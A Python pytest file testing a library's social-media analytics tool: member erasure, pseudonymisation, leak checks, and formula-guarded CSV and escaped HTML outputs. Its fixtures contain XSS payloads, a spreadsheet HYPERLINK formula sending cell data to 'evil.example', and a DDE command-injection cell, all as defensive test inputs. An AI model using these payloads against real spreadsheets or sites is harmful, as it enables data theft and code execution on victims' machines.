import csv
import json
import re
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from libcommunity.cli import main
from libcommunity.errors import ParameterError, UnknownAccountError
from libcommunity.export import csv_dialect, needs_guard
from libcommunity.locales import account_lang
from libcommunity.privacy import ERASED, forget_member
from libcommunity.store import Store
from tests.conftest import TEST_KEY
from tests.test_ingest import INTERACTIONS, MEMBERS, POSTS, write


@pytest.fixture
def store_dir(tmp_path):
    files = [write(tmp_path, "p.csv", POSTS), write(tmp_path, "i.csv", INTERACTIONS), write(tmp_path, "m.csv", MEMBERS)]
    assert main(["ingest", *map(str, files), "--account", "lib", "--platform", "x", "--store", str(tmp_path / "st")]) == 0
    return tmp_path / "st"


def test_forget_erases_identity_interactions_member_and_library_replies(store_dir, tmp_path, capsys):
    from libcommunity.store import Store

    store = Store(store_dir)
    ana = store.identities("lib").set_index("handle").loc["@Ana", "member_id"]
    assert main(["forget", "--account", "lib", "--member", "@ana", "--store", str(store_dir)]) == 0
    err = capsys.readouterr().err
    assert "interactions: 2 row(s) removed" in err  # her comment and the library's reply to it
    assert ana not in set(store.read("interactions")["member_id"])
    assert ana not in set(store.read("members")["member_id"])
    assert "@Ana" not in set(store.identities("lib")["handle"])
    # a later ingest of the same export does not bring her back
    files = [write(tmp_path, "i2.csv", INTERACTIONS), write(tmp_path, "m2.csv", MEMBERS)]
    assert main(["ingest", *map(str, files), "--account", "lib", "--platform", "x", "--store", str(store_dir)]) == 0
    assert ana not in set(store.read("interactions")["member_id"])
    assert "@Ana" not in set(store.identities("lib")["handle"])
    assert len(store.read("interactions")) == 1  # @bob's reaction stays


def test_forget_nobody_is_no_such_member_and_changes_nothing(store_dir, capsys):
    from libcommunity.errors import UnknownMemberError
    from libcommunity.store import Store
    from tests.test_store import tree_hash

    before = tree_hash(store_dir)
    with pytest.raises(UnknownMemberError, match="no such member in lib"):
        forget_member(Store(store_dir), "lib", "@nobody")
    capsys.readouterr()
    assert main(["forget", "--account", "lib", "--member", "@nobody", "--store", str(store_dir)]) == 2
    err = capsys.readouterr().err
    assert "no such member" in err and "erased" not in err
    assert tree_hash(store_dir) == before


def test_forget_errors(store_dir):
    from libcommunity.store import Store

    with pytest.raises(UnknownAccountError):
        forget_member(Store(store_dir), "other", "@ana")
    with pytest.raises(ParameterError):
        forget_member(Store(store_dir), "lib", " @")


# ============================================================================ end to end: nothing identifying leaks
FORMATS = Path(__file__).parent / "data" / "formats"
#: Patron handles of the hand-written export (the last is a Facebook-style display name that starts a formula).
HANDLES = ["@Zq_Patron_One", "@xy_reader42", "@Quiet_Follower77", "=SUM(A1)*Zoë Quintana"]
#: Handles and display names in the Mastodon notifications fixture (patrons only, not the library).
MASTODON_HANDLES = ["carla@fedi.example", "bob@other.social", "dan@other.social", "fran@fedi.example", "gus@other.social"]
MASTODON_NAMES = ["Carla", "Fran", "Gus", "Eva", "Dan"]

E2E_POSTS = """post_id,published_at,kind,text,reach
p1,2025-10-02T10:00:00+02:00,photo,Congrats @Zq_Patron_One on winning the story prize! <script>alert('x')</script>,100
p2,2025-10-09T10:00:00+02:00,text,=HYPERLINK("http://evil.example/?q="&A1;"click") club tonight,80
"""
E2E_INTERACTIONS = """interaction_id,member_id,kind,created_at,post_id,reply_to,by_library,text
c1,@Zq_Patron_One,comment,2025-10-02T11:00:00+02:00,p1,,false,Thank you! cc @xy_reader42
r1,@biblio_lib,comment,2025-10-02T12:00:00+02:00,p1,c1,true,Well deserved @Zq_Patron_One!
c2,@xy_reader42,comment,2025-10-02T13:00:00+02:00,p1,c1,false,"@Zq_Patron_One so proud <img src=x onerror=alert(1)>"
c3,=SUM(A1)*Zoë Quintana,comment,2025-10-03T09:00:00+02:00,p2,,false,"=cmd|' /C calc'!A0"
l1,@xy_reader42,reaction,2025-10-09T11:00:00+02:00,p2,,false,
l2,@Zq_Patron_One,share,2025-10-10T11:00:00+02:00,p2,,false,@everyone come!
"""
E2E_MEMBERS = """member_id,followed_at,followers,is_staff
@Zq_Patron_One,2024-01-01T00:00:00Z,10,false
@xy_reader42,2024-05-01T00:00:00Z,3,false
@Quiet_Follower77,2025-01-01T00:00:00Z,1,false
=SUM(A1)*Zoë Quintana,2025-02-01T00:00:00Z,0,false
@biblio_lib,2020-01-01T00:00:00Z,500,true
"""


def _string_cells(root: Path, *, skip=("identities",)):
    """Every string cell of every Parquet file of the store, except the skipped tables."""
    for path in sorted(root.rglob("*.parquet")):
        if path.relative_to(root).parts[0] in skip:
            continue
        table = pq.read_table(path)
        for name in table.column_names:
            for value in table.column(name).to_pylist():
                if isinstance(value, str):
                    yield path.relative_to(root).parts[0], name, value


def _leaks(text: str, handles=(), names=()) -> list:
    """Original identifiers found in ``text`` (handles case-insensitively without '@', names as whole words)."""
    found = [h for h in handles if h.lstrip("@").lower() in text.lower()]
    found += [n for n in names if re.search(rf"\b{re.escape(n)}\b", text)]
    return found


@pytest.fixture
def e2e_store(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    files = []
    for name, text in (("posts.csv", E2E_POSTS), ("interactions.csv", E2E_INTERACTIONS), ("members.csv", E2E_MEMBERS)):
        (src / name).write_text(text, "utf-8")
        files.append(str(src / name))
    root = tmp_path / "st"
    assert main(["ingest", *files, "--account", "lib", "--platform", "x", "--timezone", "Europe/Madrid", "--store", str(root), "-q"]) == 0
    for name in ("notifications.json", "followers.json"):
        shutil.copy(FORMATS / "mastodon" / name, src / name)
        meta = FORMATS / "mastodon" / f".{name}.meta.json"
        if meta.exists():
            shutil.copy(meta, src / meta.name)
    assert main(["ingest", str(src / "notifications.json"), str(src / "followers.json"), "--account", "masto",
                 "--timezone", "Europe/Madrid", "--store", str(root), "-q"]) == 0
    return root, src, files


def test_no_handle_or_display_name_reaches_the_analytics_tables(e2e_store):
    root, _, _ = e2e_store
    leaks = [(t, c, v) for t, c, v in _string_cells(root) if _leaks(v, HANDLES + MASTODON_HANDLES, MASTODON_NAMES)]
    assert not leaks
    # ... while the identities table does hold them (so the check above can see them), and mentions became pseudonyms
    identities = [v for t, c, v in _string_cells(root, skip=()) if t == "identities"]
    assert {"@Zq_Patron_One", "=SUM(A1)*Zoë Quintana", "carla@fedi.example"} <= set(identities)
    from libcommunity.pseudonym import Pseudonymizer
    from libcommunity.store import Store

    texts = Store(root).read("interactions", "lib").set_index("interaction_id")["text"]
    zq = Pseudonymizer(TEST_KEY.encode())("@Zq_Patron_One", "x")
    assert texts["c2"].startswith(f"@{zq} so proud") and texts["l2"].startswith("@m_")
    assert Store(root).read("posts", "lib")["text"][0].startswith(f"Congrats @{zq} on")


def test_default_outputs_hold_pseudonyms_only_and_reveal_joins_back(e2e_store, capsys, tmp_path):
    root, _, _ = e2e_store
    for account, handles in (("lib", HANDLES), ("masto", MASTODON_HANDLES)):
        base = ["--account", account, "--month", "2025-10", "--store", str(root)]
        capsys.readouterr()
        assert main(["metrics", *base, "--json"]) == 0
        assert main(["segment", *base, "--json", "--out", str(tmp_path / f"{account}.csv")]) == 0
        out = capsys.readouterr().out + (tmp_path / f"{account}.csv").read_text("utf-8")
        assert not _leaks(out, handles, MASTODON_NAMES if account == "masto" else ()), out[:500]
        assert "m_" in out
        assert main(["segment", *base, "--json", "--reveal", "--out", str(tmp_path / f"{account}-reveal.csv")]) == 0
        revealed = capsys.readouterr().out
        found = set(_leaks(revealed, handles))
        assert found == set(handles) if account == "lib" else len(found) >= 3, found  # the check sees handles
        assert all(m["handle"] for m in json.loads(revealed)["members"])
    info = Store(root).account("lib")
    with open(tmp_path / "lib-reveal.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh, delimiter=csv_dialect(account_lang(info), info.timezone)[0]))
    cells = [c for r in rows for c in r]
    assert "'=SUM(A1)*Zoë Quintana" in cells and "@Zq_Patron_One" in cells  # a whole handle is no formula
    assert not [c for c in cells if needs_guard(c)]


@pytest.mark.slow
def test_the_html_report_shows_no_handle_or_display_name(e2e_store, tmp_path):
    root, _, _ = e2e_store
    out = tmp_path / "reports"
    code = main(["report", "--month", "2025-10", "--store", str(root), "--out", str(out), "--no-network", "-q"])
    assert code == 0
    pages = {p.name: p.read_text("utf-8") for p in (out / "2025-10").glob("*.html")}
    assert {"lib.html", "masto.html", "index.html"} <= set(pages)
    for name, page in pages.items():
        assert not _leaks(page, HANDLES + MASTODON_HANDLES, MASTODON_NAMES), name
        assert "<script>alert" not in page and "onerror=alert" not in page, name


# ============================================================================ forget, end to end
def _cells_with(root, needle):
    return [(t, c, v) for t, c, v in _string_cells(root, skip=()) if needle in v]


def test_forget_erases_the_person_everywhere_and_redacts_mentions(e2e_store, capsys):
    from libcommunity.pseudonym import Pseudonymizer
    from libcommunity.store import Store

    root, src, files = e2e_store
    zq = Pseudonymizer(TEST_KEY.encode())("@Zq_Patron_One", "x")
    assert _cells_with(root, zq)
    capsys.readouterr()
    assert main(["forget", "--account", "lib", "--member", "@zq_patron_one", "--store", str(root)]) == 0
    err = capsys.readouterr().err
    # her comment and share, the library's reply to her comment; xy's reply to her is kept (xy's own data)
    assert "interactions: 3 row(s) removed" in err and "members: 1 row(s) removed" in err and "identities: 1 row(s) removed" in err
    assert "interactions: 1 row(s) mentioning them redacted" in err and "posts: 1 row(s) mentioning them redacted" in err
    assert not _cells_with(root, zq) and not [v for _, _, v in _string_cells(root, skip=()) if "Zq_Patron" in v]
    store = Store(root)
    inter = store.read("interactions", "lib").set_index("interaction_id")
    assert sorted(inter.index) == ["c2", "c3", "l1"]
    assert inter.loc["c2", "reply_to"] == "c1" and inter.loc["c2", "text"].startswith(f"{ERASED} so proud")
    assert store.read("posts", "lib")["text"][0].startswith(f"Congrats {ERASED} on")
    assert zq in store.forgotten("lib") and store.forgotten("masto") == set()
    # the same exports again: she does not come back, nor does her name in other people's text
    assert main(["ingest", *files, "--account", "lib", "--platform", "x", "--store", str(root), "-q"]) == 0
    assert not _cells_with(root, zq)
    assert sorted(store.read("interactions", "lib")["interaction_id"]) == ["c2", "c3", "l1"]


def test_forget_someone_who_is_only_mentioned(tmp_path, capsys):
    from libcommunity.store import Store

    (tmp_path / "p.csv").write_text("post_id,published_at,text\np1,2025-10-02T10:00:00Z,Meet our volunteer @Only_Named!\n", "utf-8")
    root = tmp_path / "st"
    assert main(["ingest", str(tmp_path / "p.csv"), "--account", "lib", "--platform", "x", "--store", str(root), "-q"]) == 0
    assert main(["forget", "--account", "lib", "--member", "@only_named", "--store", str(root)]) == 0
    assert Store(root).read("posts")["text"].tolist() == [f"Meet our volunteer {ERASED}!"]


def test_forget_is_one_transaction(e2e_store, monkeypatch):
    """A failure in the middle of the erasure (here: the last rewrite) leaves every file as it was."""
    from libcommunity import store as store_module
    from libcommunity.store import Store
    from tests.test_store import tree_hash

    root, _, _ = e2e_store
    before = tree_hash(root)
    real = store_module.Transaction.add_forgotten

    def boom(self, *a, **k):
        real(self, *a, **k)
        raise OSError("disk full")

    monkeypatch.setattr(store_module.Transaction, "add_forgotten", boom)
    with pytest.raises(OSError, match="disk full"):
        forget_member(Store(root), "lib", "@Zq_Patron_One")
    assert tree_hash(root) == before
